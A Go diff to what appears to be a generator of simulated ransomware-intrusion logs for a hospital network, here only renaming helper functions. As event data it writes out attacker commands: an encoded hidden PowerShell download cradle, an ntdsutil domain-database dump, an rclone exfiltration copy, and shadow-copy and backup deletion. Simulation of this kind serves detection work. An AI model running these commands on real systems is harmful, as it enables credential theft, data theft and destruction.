@@ -47,7 +47,7 @@ const (
 )
 
 func (i *intrusion) ran(at time.Time, computer, login, image, parent, command string) {
-	i.windows(at, trace.Process(i.next(), computer, login, image, parent, command))
+	i.windows(at, trace.Process(i.number(), computer, login, image, parent, command))
 }
 
 // within moves a day of the story into the days that there are.
@@ -80,7 +80,7 @@ func (s *scene) lastNight() int {
 }
 
 func (i *intrusion) wayIn() {
-	at := i.At(0, 10, 2)
+	at := i.around(0, 10, 2)
 	i.ran(at, i.machine, i.login, powershell, `C:\Program Files\Office\WINWORD.EXE`, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")
 	i.say(feed.Network, at.Add(40*time.Second), trace.Alert(at.Add(40*time.Second), i.next(), i.ip, "203.0.113.66", 443, 9000001, 1, "loader fetched"))
 	for n := range 40 {
@@ -88,14 +88,14 @@ func (i *intrusion) wayIn() {
 		i.connection(when, trace.Conn{From: i.ip, To: "203.0.113.66", Port: 443, State: "SF", Out: 900 + i.Rand.Int64N(400), Back: 1_400, Lasted: 3 * time.Second})
 	}
 	directory := at.Add(11 * time.Hour) // the median time from the door to the directory
-	i.windows(directory, trace.Logon(i.next(), "DC-01", "svc_deploy", 3, trace.From{IP: i.ip}, true))
+	i.windows(directory, trace.Logon(i.number(), "DC-01", "svc_deploy", 3, trace.From{IP: i.ip}, true))
 	i.ran(directory.Add(4*time.Minute), "DC-01", "svc_deploy", systemDir+"ntdsutil.exe", cmd, `ntdsutil "ac i ntds" "ifm" "create full C:\Temp\n" q q`)
 	who := i.World().Staff[i.Rand.IntN(len(i.World().Staff))]
 	i.SignIn(who, directory.Add(40*time.Minute), "203.0.113.66", "NL", "Remote Access", 0)
 }
 
 func (i *intrusion) lookAround() {
-	at := i.At(min(3, i.last), 22, 14)
+	at := i.around(min(3, i.last), 22, 14)
 	for n, c := range []string{"nltest /dclist:example", `net group "Domain Admins" /domain`, "whoami /all", "arp -a"} {
 		i.ran(at.Add(time.Duration(20*n)*time.Second), i.machine, i.login, cmd, powershell, c)
 	}
@@ -109,7 +109,7 @@ func (i *intrusion) lookAround() {
 }
 
 func (i *intrusion) takeAway() {
-	at := i.At(max(0, i.last-1), 23, 31)
+	at := i.around(max(0, i.last-1), 23, 31)
 	i.ran(at, "SRV-FILE-01", "svc_deploy", `C:\ProgramData\rclone.exe`, cmd, `rclone copy D:\ remote:b --max-age 3y --transfers 12`)
 	for n := range 12 {
 		when := at.Add(time.Duration(n) * 22 * time.Minute)
@@ -119,18 +119,18 @@ func (i *intrusion) takeAway() {
 }
 
 func (i *intrusion) blind() {
-	at := i.At(i.last, 20, 40)
+	at := i.around(i.last, 20, 40)
 	i.say(feed.Backups, at, trace.Server{Host: "srv-backup-01", Program: "Veeam_MP", Process: 1}.Line(at, "job=\"nightly record system\" state=deleted user=EXAMPLE\\svc_deploy"))
 	i.say(feed.Backups, at.Add(time.Minute), trace.Server{Host: "srv-backup-01", Program: "Veeam_MP", Process: 1}.Line(at.Add(time.Minute), "repository=\"disk-1\" restore_points=0 deleted=412 user=EXAMPLE\\svc_deploy"))
 	for n := range 30 {
-		i.windows(at.Add(20*time.Minute+time.Duration(n)*8*time.Second), trace.Service(i.next(), fmt.Sprintf("SRV-APP-%02d", n+1), "Endpoint Sensor", "stopped"))
+		i.windows(at.Add(20*time.Minute+time.Duration(n)*8*time.Second), trace.Service(i.number(), fmt.Sprintf("SRV-APP-%02d", n+1), "Endpoint Sensor", "stopped"))
 	}
 	stopped := at.Add(40 * time.Minute)
 	i.say(feed.Archive, stopped, trace.Audit{Event: trace.DCM("110113"), Type: trace.DCM("110133"), Outcome: 4, Who: trace.Who{Login: "pacsadmin", Name: "PACS Administrator"}, From: trace.From{IP: i.ip}, Source: archiveAE}.Syslog(stopped))
 }
 
 func (i *intrusion) encrypt() {
-	at := i.At(i.last, 25, 0)
+	at := i.around(i.last, 25, 0)
 	i.ran(at, "SRV-FILE-01", "svc_deploy", systemDir+"vssadmin.exe", cmd, "vssadmin delete shadows /all /quiet")
 	names := []string{"~AAAA passwords.docx", "Letters\\letter%04d.docx", "Scans\\scan%04d.pdf", "Rosters\\week%04d.xlsx"}
 	for n := range 400 {
@@ -139,7 +139,7 @@ func (i *intrusion) encrypt() {
 		if n == 0 { // the decoy that lies first on the share
 			file = `D:\` + names[0]
 		}
-		i.windows(at.Add(2*time.Minute+time.Duration(n)*150*time.Millisecond), trace.Renamed(i.next(), "SRV-FILE-01", "svc_deploy", `C:\ProgramData\upd.exe`, file+".quagga"))
+		i.windows(at.Add(2*time.Minute+time.Duration(n)*150*time.Millisecond), trace.Renamed(i.number(), "SRV-FILE-01", "svc_deploy", `C:\ProgramData\upd.exe`, file+".quagga"))
 	}
 	for n, f := range []feed.Feed{feed.Lab, feed.ADT, feed.Orders, feed.Imaging, feed.Pharmacy} { // all within nine minutes
 		i.Silence(f, at.Add(time.Duration(3+n)*time.Minute), i.At(i.Days(), 0, 0), false)
@@ -152,8 +152,9 @@ func smashAndGrab(s *scene) {
 		return
 	}
 	s.Note([]*world.Staff{who}, nil)
-	at := s.At(0, 21, 10)
-	inside, _ := s.fromAfar(who, at, 5*time.Hour, 9_000_000, 44_000_000)
+	at := s.around(0, 21, 10)
+	seat, _ := s.fromAfar(who, at, 5*time.Hour, 9_000_000, 44_000_000)
+	inside := seat.IP
 	for n := range 40 {
 		s.connection(at.Add(20*time.Minute+time.Duration(n)*2*time.Second), trace.Conn{From: inside, To: fmt.Sprintf("10.20.8.%d", 1+n), Port: []int{445, 3389, 443}[n%3], State: "S0"})
 	}
@@ -173,7 +174,7 @@ func smashAndGrab(s *scene) {
 func loop(s *scene) {
 	const atScale = 200_000
 	n := max(2_000, int(atScale*s.World().Scale))
-	at := s.At(0, 11, 25)
+	at := s.around(0, 11, 25)
 	every := 90 * time.Minute / time.Duration(n)
 	s.Repeat(feed.ADT, n, at, every)
 	for i := range 9 {
